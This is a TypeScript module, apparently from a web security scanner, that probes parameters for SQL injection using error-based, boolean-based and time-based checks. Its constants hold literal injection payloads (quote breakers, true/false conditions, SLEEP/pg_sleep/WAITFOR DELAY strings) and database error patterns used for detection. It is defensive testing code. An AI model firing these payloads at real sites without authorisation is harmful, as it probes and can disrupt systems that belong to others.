/**
 * SQL injection, three ways:
 * - error-based: a quote breaks the statement and a database error message
 *   (not present in the baseline) comes back;
 * - boolean-based: an always-true condition gives the baseline page and an
 *   always-false one a different page, confirmed with a second pair;
 * - time-based: a delay function makes the answer slower by the asked delay,
 *   against a zero-delay control, confirmed twice.
 */
import type { HttpResponse } from '../../net/http-client.ts';
import { webEvidence } from '../evidence.ts';
import { type ActiveContext, type InjectionPoint, baselineValue, eachConcurrently, requestFor, send } from './points.ts';

/** Database error messages, as data. */
export const SQL_ERRORS: readonly { db: string; re: RegExp }[] = [
  { db: 'MySQL', re: /You have an error in your SQL syntax|Warning:.{0,80}\bmysqli?_|MySqlException|com\.mysql\.jdbc/i },
  { db: 'PostgreSQL', re: /unterminated quoted string at or near|syntax error at or near|PG::SyntaxError|org\.postgresql\.util\.PSQLException/i },
  { db: 'SQLite', re: /SQLITE_ERROR|sqlite3\.OperationalError|near "[^"]{0,40}": syntax error|unrecognized token:|System\.Data\.SQLite/i },
  { db: 'Oracle', re: /\bORA-0(?:0933|1756|0921|1740)\b|quoted string not properly terminated/i },
  { db: 'SQL Server', re: /Unclosed quotation mark after the character string|Microsoft OLE DB Provider for SQL Server|\[SQL Server\]|SqlException/i },
  { db: 'generic', re: /SQLSTATE\[\w+\]|PDOException|SQL syntax error/i },
];

const ERROR_PAYLOADS = ["'", '"', "')", "\\'"];
const BOOLEAN_GROUPS: readonly (readonly (readonly [string, string])[])[] = [
  [
    ["' AND '1'='1", "' AND '1'='2"],
    ["' AND 'ctd'='ctd", "' AND 'ctd'='dtc"],
  ],
  [
    [' AND 1=1', ' AND 1=2'],
    [' AND 7=7', ' AND 7=8'],
  ],
];
const TIME_PAYLOADS = (d: number): string[] => [`' AND SLEEP(${d})-- -`, ` AND SLEEP(${d})`, `' || pg_sleep(${d})-- -`, `'; WAITFOR DELAY '0:0:${d}'--`];
const MAX_TIME_POINTS = 15;

export async function errorSqli(ctx: ActiveContext, points: readonly InjectionPoint[], baselines: Map<InjectionPoint, HttpResponse | undefined>): Promise<void> {
  await eachConcurrently(ctx, points, async (p, ctx) => {
    const base = baselines.get(p);
    for (const payload of ERROR_PAYLOADS) {
      const r = await send(ctx, requestFor(p, `${baselineValue(p)}${payload}`));
      const hit = r ? SQL_ERRORS.find((e) => e.re.test(r.text) && !(base && e.re.test(base.text))) : undefined;
      if (r && hit) {
        ctx.b.finding('web.injection.sqli_error', webEvidence(r, { parameter: p.name, match: hit.re, detail: `${hit.db} error after appending ${payload} to "${p.name}"` }));
        break;
      }
    }
  });
}

export async function booleanSqli(ctx: ActiveContext, points: readonly InjectionPoint[], baselines: Map<InjectionPoint, HttpResponse | undefined>): Promise<void> {
  await eachConcurrently(ctx, points, async (p, ctx) => {
    const base = baselines.get(p);
    if (!base) return;
    const v = baselineValue(p);
    let confirmed: { t: HttpResponse; f: HttpResponse; pair: readonly [string, string] }[] = [];
    // String context first, then numeric; both pairs of one context must agree.
    for (const group of BOOLEAN_GROUPS) {
      confirmed = [];
      for (const pair of group) {
        const t = await send(ctx, requestFor(p, `${v}${pair[0]}`));
        const f = t && (await send(ctx, requestFor(p, `${v}${pair[1]}`)));
        if (!t || !f) break;
        const [bt, tt, ft] = [strip(base.text, v), strip(t.text, v + pair[0]), strip(f.text, v + pair[1])];
        const simTrue = tt === bt ? 1 : similarity(tt, bt);
        const simFalse = ft === bt ? 1 : similarity(ft, bt);
        // The true condition must give the baseline page, the false one a page further from it than noise.
        const differs = f.status !== base.status || (simFalse < 1 && simFalse < simTrue - 0.02);
        if (t.status !== base.status || simTrue < 0.98 || !differs) break;
        confirmed.push({ t, f, pair });
      }
      if (confirmed.length === group.length) break;
    }
    if (confirmed.length >= 2) {
      const c = confirmed[0]!;
      ctx.b.finding(
        'web.injection.sqli_boolean',
        webEvidence(c.f, {
          parameter: p.name,
          detail: `"${p.name}"${c.pair[0]} returns the normal page (${c.t.body.length} bytes) while${c.pair[1]} returns a different one (${c.f.body.length} bytes, status ${c.f.status}); confirmed with a second pair. True-condition request:\n${c.t.requestText}`,
        }),
      );
    }
  });
}

/** One point at a time, alone: concurrent requests would make a slow answer mean nothing. */
export async function timeSqli(ctx: ActiveContext, points: readonly InjectionPoint[]): Promise<void> {
  const d = ctx.config.sqliDelaySeconds;
  const slow = d * 1000 * 0.9;
  const fast = d * 1000 * 0.5;
  for (const p of points.slice(0, MAX_TIME_POINTS)) {
    const v = baselineValue(p);
    for (const payload of TIME_PAYLOADS(d)) {
      const first = await timed(ctx, requestFor(p, `${v}${payload}`));
      if (!first || first.ms < slow) continue;
      const control = await timed(ctx, requestFor(p, `${v}${payload.replace(String(d), '0').replace(`0:0:${d}`, '0:0:0')}`));
      if (!control || control.ms >= fast) continue;
      const again = await timed(ctx, requestFor(p, `${v}${payload}`));
      if (!again || again.ms < slow) continue;
      ctx.b.finding(
        'web.injection.sqli_time',
        webEvidence(again.r, { parameter: p.name, headers: [], detail: `${payload.trim()} in "${p.name}" took ${Math.round(first.ms)} and ${Math.round(again.ms)} ms; the zero-delay control took ${Math.round(control.ms)} ms` }),
      );
      break;
    }
  }
}

async function timed(ctx: ActiveContext, req: Parameters<typeof send>[1]): Promise<{ r: HttpResponse; ms: number } | undefined> {
  const t = performance.now();
  const r = await send(ctx, req);
  return r ? { r, ms: performance.now() - t } : undefined;
}

function strip(text: string, injected: string): string {
  if (!injected) return text;
  const forms = new Set([injected, encodeURIComponent(injected), injected.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;'), injected.replace(/'/g, '&#x27;')]);
  let out = text;
  for (const f of forms) if (f) out = out.split(f).join('');
  return out;
}

/** Dice similarity of the pages' line/tag tokens: 1 for the same page, lower as content differs. */
export function similarity(a: string, b: string): number {
  const ta = tokens(a);
  const tb = tokens(b);
  if (ta.size === 0 && tb.size === 0) return 1;
  let common = 0;
  let na = 0;
  let nb = 0;
  for (const [k, n] of ta) {
    na += n;
    common += Math.min(n, tb.get(k) ?? 0);
  }
  for (const n of tb.values()) nb += n;
  return (2 * common) / (na + nb);
}

function tokens(s: string): Map<string, number> {
  const m = new Map<string, number>();
  for (const t of s.slice(0, 512 * 1024).split(/[\n>]/)) {
    const k = t.trim();
    if (k) m.set(k, (m.get(k) ?? 0) + 1);
  }
  return m;
}
